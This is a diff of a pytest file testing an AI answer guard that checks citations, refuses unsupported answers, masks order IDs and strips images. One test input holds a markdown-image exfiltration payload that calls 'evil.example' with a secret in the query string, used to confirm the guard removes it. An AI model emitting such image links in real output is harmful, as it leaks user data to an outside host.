@@ -5,7 +5,7 @@ from typing import Any
 import pytest
 
 from contracts.turn import Citation
-from orchestrator.guard.answer import Phrases, check_answer
+from orchestrator.guard.answer import Grounds, Phrases, check_answer
 from orchestrator.guard.masking import IdMask
 from orchestrator.guard.vault import Vault
 from orchestrator.turn.inputs import Guarded
@@ -22,13 +22,17 @@ FOUND = {"passages": [PASSAGE]}
 
 
 def check(text: str, *citations: Citation, outputs: list[dict[str, Any]] | None = None) -> Guarded:
-    phrases = Phrases(unsupported="No source.", withheld="Withheld.")
-    return check_answer(text, citations, outputs or [], Vault(), IdMask(frozenset({"ABC123"})), phrases)
+    phrases = Phrases(unsupported="No source.", withheld="Withheld.", nearest="Not found; the nearest page is {page}.")
+    grounds = Grounds(outputs=outputs or [], asked=("Where is my order ABC123?",))
+    return check_answer(text, citations, (), grounds, Vault(), IdMask(frozenset({"ABC123"})), phrases)
 
 
 def test_a_quote_that_stands_in_its_passage_passes() -> None:
-    guarded = check("Within 30 days.", QUOTE, outputs=[FOUND])
-    assert (guarded.verdict, guarded.citations) == ("pass", (QUOTE,))
+    guarded = check("You can return it within 30 days, as Returns says.", QUOTE, outputs=[FOUND])
+    assert (guarded.verdict, guarded.citations, guarded.covered) == ("pass", (QUOTE,), 1.0)
+    (support,) = guarded.support
+    assert (support.start, support.end, support.chunk_id) == (0, 50, "c1")
+    assert support.quote == "You can return an item within 30 days."
 
 
 @pytest.mark.parametrize(
@@ -41,11 +45,16 @@ def test_a_quote_that_stands_in_its_passage_passes() -> None:
 )
 def test_an_answer_whose_only_source_does_not_hold_is_refused(wrong: Citation) -> None:
     guarded = check("Within 90 days.", wrong, outputs=[FOUND])
-    assert (guarded.verdict, guarded.text, guarded.citations) == ("refuse", "No source.", ())
+    assert (guarded.verdict, guarded.text, tuple(one.quote for one in guarded.citations)) == (
+        "refuse", f"Not found; the nearest page is “Returns” ({URL}).", ("You can return an item within 30 days.",),
+    )  # fmt: skip
+    assert guarded.refusal == "unsupported"
 
 
 def test_a_wrong_source_beside_a_right_one_is_dropped() -> None:
-    guarded = check("Within 30 days.", QUOTE, QUOTE.model_copy(update={"quote": "free cake"}), outputs=[FOUND])
+    guarded = check(
+        "Within 30 days, says Returns.", QUOTE, QUOTE.model_copy(update={"quote": "free cake"}), outputs=[FOUND]
+    )
     assert (guarded.verdict, guarded.citations, guarded.reasons) == ("repair", (QUOTE,), ("citation_dropped",))
 
 
@@ -64,7 +73,7 @@ def test_internal_ids_and_secrets_never_leave(leak: str) -> None:
 
 
 def test_images_are_removed_and_order_ids_masked() -> None:
-    guarded = check("Order ABC123 ![x](https://evil.example/?q=secret) is here.")
+    guarded = check("Order ABC123 ![x](https://evil.example/?q=secret) is here.", outputs=[{"order_id": "ABC123"}])
     assert guarded.text == "Order ••C123  is here."
     assert guarded.reasons == ("image_removed",)
 
